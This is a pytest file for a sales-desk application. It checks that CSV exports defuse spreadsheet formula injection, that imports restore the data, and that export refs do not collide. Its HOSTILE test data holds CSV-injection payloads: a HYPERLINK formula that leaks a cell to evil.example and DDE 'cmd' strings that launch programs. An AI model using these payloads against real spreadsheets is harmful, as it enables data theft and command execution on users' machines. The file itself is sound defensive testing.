"""Issue 17: exports a spreadsheet cannot run, and that import elsewhere without collisions.

OWASP's CSV-injection rule: a cell that starts with ``=``, ``+``, ``-``, ``@``, a
tab or a carriage return is written with a leading apostrophe, by ``export_dir``
(``salescenter export``) and by ``export_search`` (Find Order's "Export to CSV…");
an import takes the apostrophe away again, so a round trip keeps the data.
Records made at the desk are exported under refs no other database (and no
imported record of this one) uses, so importing an export loses no row.
"""

from __future__ import annotations

import csv
from collections.abc import Callable
from pathlib import Path

import pytest

from salescenter import SalesCenter
from salescenter.api import Desk
from salescenter.errors import ValidationError
from salescenter.services.transfer.formats import FILES
from tests.conftest import PASSWORDS, World
from tests.integration.order_steps import submitted
from tests.integration.test_export import another_database, read

# Import and export read and write files where the database is: through a server they are
# `salescenter transfer` on the server's machine, and the remote desk refuses them
# (tests/integration/test_server.py). So these run on the embedded desk only.
pytestmark = pytest.mark.embedded_only

RUNS_AS_FORMULA = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = {
    "first_name": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "last_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "company": "+cmd|' /C notepad'!A0",
    "phone": "+1 (555) 010-9999",
}


def cells(folder: Path) -> list[str]:
    found = []
    for name in FILES:
        with (folder / name).open(encoding="utf-8-sig", newline="") as f:
            found += [cell for row in csv.reader(f) for cell in row]
    return found


def hostile_customer(desk: Desk) -> int:
    customer = desk.customers.create(
        HOSTILE["first_name"], HOSTILE["last_name"], company=HOSTILE["company"], phone=HOSTILE["phone"],
        address={"line1": "-1 Minus Street", "line2": "'quoted already", "city": "@Home",
                 "country": "US"},
    )
    return customer.id


def signed_in_elsewhere(other: SalesCenter) -> Desk:
    other.create_user("admin", PASSWORDS["admin"], role="admin")
    desk = other.login("admin", PASSWORDS["admin"])
    desk.stores.create("US", "Sales Center US", tax_rate="0.0825")
    desk.stores.create("B2B", "Sales Center Business", kind="b2b")
    return desk


def test_export_writes_no_cell_a_spreadsheet_runs_and_import_restores_them(
    admin: Desk, world: World, db_url: str, tmp_path: Path, sqlite_template: Path
) -> None:
    hostile_customer(admin)
    admin.catalog.create_product("FORM-1", "=2+5", "3.00", stock=1, description="-10% for members")
    admin.transfer.export_dir(tmp_path / "out")
    written = cells(tmp_path / "out")
    assert [cell for cell in written if cell.startswith(RUNS_AS_FORMULA)] == []
    assert "'" + HOSTILE["first_name"] in written and "'+1 (555) 010-9999" in written
    assert "''quoted already" in written  # an apostrophe of its own is kept through the round trip
    with another_database(db_url, tmp_path, sqlite_template) as url, SalesCenter.open(url) as other:
        desk = signed_in_elsewhere(other)
        summary = desk.transfer.import_dir(tmp_path / "out")
        assert summary.rejections == []
        (back,) = [c for c in desk.customers.find("%") if c.last_name == HOSTILE["last_name"]]
        assert (back.first_name, back.last_name, back.company, back.phone) == (
            HOSTILE["first_name"], HOSTILE["last_name"], HOSTILE["company"], HOSTILE["phone"])
        address = back.addresses[0]
        assert (address.line1, address.line2, address.city) == ("-1 Minus Street", "'quoted already", "@Home")
        product = desk.catalog.get("FORM-1")
        assert (product.name, product.description) == ("=2+5", "-10% for members")


def test_fnd_1_find_order_export_writes_no_cell_a_spreadsheet_runs(
    admin: Desk, csr: Desk, world: World, tmp_path: Path
) -> None:
    customer = hostile_customer(admin)
    order = csr.orders.create(world.store, customer)
    csr.orders.add_item(order.id, "WID-1", 1)
    target = tmp_path / "found.csv"
    assert csr.transfer.export_search(target, customer_id=customer) == 1
    with target.open(encoding="utf-8-sig", newline="") as f:
        written = [cell for row in csv.reader(f) for cell in row]
    assert [cell for cell in written if cell.startswith(RUNS_AS_FORMULA)] == []
    (row,) = read(target)
    assert row["customer_name"] == "'" + f"{HOSTILE['first_name']} {HOSTILE['last_name']}"


def test_export_refs_never_collide_within_an_export_nor_with_another_databases_records(
    admin: Desk, world: World, db_url: str, tmp_path: Path, sqlite_template: Path
) -> None:
    desk_order = submitted(admin, world, ("WID-1", 2))
    admin.transfer.export_dir(tmp_path / "first")
    refs = {row["last_name"]: row["customer_ref"] for row in read(tmp_path / "first" / "customers.csv")}
    (order_ref,) = [row["order_ref"] for row in read(tmp_path / "first" / "orders.csv")]
    # An imported customer and order that already use the refs the desk's ones were exported under,
    # and the short forms older exports used (SC-<id>, the order number).
    clash = tmp_path / "clash"
    clash.mkdir()
    customers = ["customer_ref,first_name,last_name,company,email,phone,line1,line2,city,region,"
                 "postal_code,country"]
    customers += [f"{refs['Taylor']},Imported,Twin,,,,,,,,,", f"SC-{world.customer_id},Old,Style,,,,,,,,,"]
    (clash / "customers.csv").write_text("\n".join(customers) + "\n", encoding="utf-8")
    (clash / "products.csv").write_text("sku,name,description,list_price,stock,available\n", encoding="utf-8")
    orders = ["order_ref,store,customer_ref,created_at,status,ship_name,ship_line1,ship_line2,ship_city,"
              "ship_region,ship_postal_code,ship_country,shipping_method,shipping_total,shipped_at,required_at"]
    orders += [f"{order_ref},US,{refs['Taylor']},2024-01-02,shipped,,,,,,,,standard,0,,",
               f"{desk_order.number},US,SC-{world.customer_id},2024-01-03,shipped,,,,,,,,standard,0,,"]
    (clash / "orders.csv").write_text("\n".join(orders) + "\n", encoding="utf-8")
    (clash / "order_lines.csv").write_text(
        f"order_ref,sku,quantity,placed_price,discount_percent\n{order_ref},CAB-1,1,9.99,\n"
        f"{desk_order.number},GAD-1,1,5.00,\n", encoding="utf-8")
    assert admin.transfer.import_dir(clash).rejected == 0
    exported = admin.transfer.export_dir(tmp_path / "second")
    customer_refs = [row["customer_ref"] for row in read(tmp_path / "second" / "customers.csv")]
    order_refs = [row["order_ref"] for row in read(tmp_path / "second" / "orders.csv")]
    assert len(set(customer_refs)) == len(customer_refs) == len(admin.customers.find("%"))
    assert len(set(order_refs)) == len(order_refs) == 3
    assert refs["Taylor"] in customer_refs and f"{refs['Taylor']}-2" in customer_refs
    with another_database(db_url, tmp_path, sqlite_template) as url, SalesCenter.open(url) as other:
        desk = signed_in_elsewhere(other)
        for sku, name in (("WID-1", "Blue Widget"), ("CAB-1", "USB Cable"), ("GAD-1", "Red Gadget")):
            desk.catalog.create_product(sku, name, "1.00", stock=1)
        # This database has records of its own under the short refs an older export used.
        assert desk.transfer.import_dir(clash).rejected == 0
        before = len(desk.customers.find("%"))
        summary = desk.transfer.import_dir(tmp_path / "second")
        assert summary.rejections == []
        assert summary.counts("customers.csv").imported == exported.rows["customers.csv"] - 2
        assert summary.counts("orders.csv").imported == exported.rows["orders.csv"] - 2
        assert len(desk.customers.find("%")) == before + exported.rows["customers.csv"] - 2
        assert len(desk.orders.search(limit=50)) == 3
        again = desk.transfer.import_dir(tmp_path / "second")
        assert (again.imported, again.updated, again.rejected) == (0, 0, 0)


@pytest.mark.parametrize("call", [
    lambda desk, here: desk.transfer.import_dir("orders\x00.csv"),
    lambda desk, here: desk.transfer.import_dir(here / "a-file"),
    lambda desk, here: desk.transfer.import_dir("~no-such-user-here/folder"),
    lambda desk, here: desk.transfer.export_dir(here / "a-file"),
    lambda desk, here: desk.transfer.export_dir("bad\x00folder"),
    lambda desk, here: desk.transfer.export_dir("/proc/no-folder-can-be-made-here"),
    lambda desk, here: desk.transfer.export_search(here),
    lambda desk, here: desk.transfer.export_search(here / "no-such-folder" / "found.csv"),
    lambda desk, here: desk.transfer.export_search("found\ud800.csv"),
])
def test_import_and_export_paths_that_cannot_work_give_a_validation_error(
    admin: Desk, world: World, tmp_path: Path, call: Callable[[Desk, Path], object]
) -> None:
    here = tmp_path / "here"
    here.mkdir()
    (here / "a-file").write_text("not a folder", encoding="utf-8")
    with pytest.raises(ValidationError):
        call(admin, here)
    assert [p.name for p in here.iterdir()] == ["a-file"]  # no half-written file left
